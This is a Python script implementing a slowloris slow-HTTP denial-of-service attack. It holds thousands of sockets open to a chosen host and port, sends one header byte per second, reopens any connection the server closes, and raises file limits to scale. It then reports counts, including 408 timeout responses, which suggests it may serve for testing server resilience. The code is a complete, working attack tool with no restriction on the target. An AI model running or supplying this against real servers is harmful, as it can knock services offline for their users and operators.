#!/usr/bin/env python3
"""Slow HTTP clients ("slowloris"): keeps N sockets open to HOST:PORT, each
sending one byte of an endless request head per second, for SECONDS. A
socket the server closes is reopened at once, so the pressure stays at N.
Prints {"opened": n, "closed_by_server": k, "connect_errors": e, "max_open": m,
"answered_408": a} (a: sockets answered 408 Request Timeout before the close).

usage: slowclients.py HOST PORT N SECONDS
"""
import json, resource, selectors, socket, sys, time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100000

# Thousands of sockets: past a soft limit of 1024 and past what select()
# takes (hence epoll, through selectors).
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
if soft < n + 64:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))

opened = closed = errors = max_open = answered_408 = 0
socks = {}  # socket -> bytes sent
sel = selectors.DefaultSelector()

def open_one():
    global opened, errors
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        errors += 1
        s.close()
        return
    socks[s] = 0
    sel.register(s, selectors.EVENT_READ)
    opened += 1

def drop(s):
    global closed
    closed += 1
    del socks[s]
    sel.unregister(s)
    s.close()

end = time.monotonic() + secs
for _ in range(n):
    open_one()
next_tick = time.monotonic()
while time.monotonic() < end:
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1.0
        for s in list(socks):
            i = socks[s]
            try:
                s.send(HEAD[i % len(HEAD):i % len(HEAD) + 1])
                socks[s] = i + 1
            except (BlockingIOError, InterruptedError):
                pass  # still connecting
            except OSError:
                drop(s)
    # Notice server-side closes (readable with EOF or an answer) promptly.
    for key, _ in sel.select(max(0.0, min(0.2, next_tick - time.monotonic()))):
        s = key.fileobj
        if s not in socks:
            continue
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if data.startswith(b"HTTP/1.1 408 "):
            answered_408 += 1
        if not data:
            drop(s)
    while len(socks) < n and time.monotonic() < end:
        before = len(socks)
        open_one()
        if len(socks) == before:
            break
    max_open = max(max_open, len(socks))
for s in socks:
    s.close()
print(json.dumps({"opened": opened, "closed_by_server": closed,
                  "connect_errors": errors, "max_open": max_open,
                  "answered_408": answered_408}), flush=True)
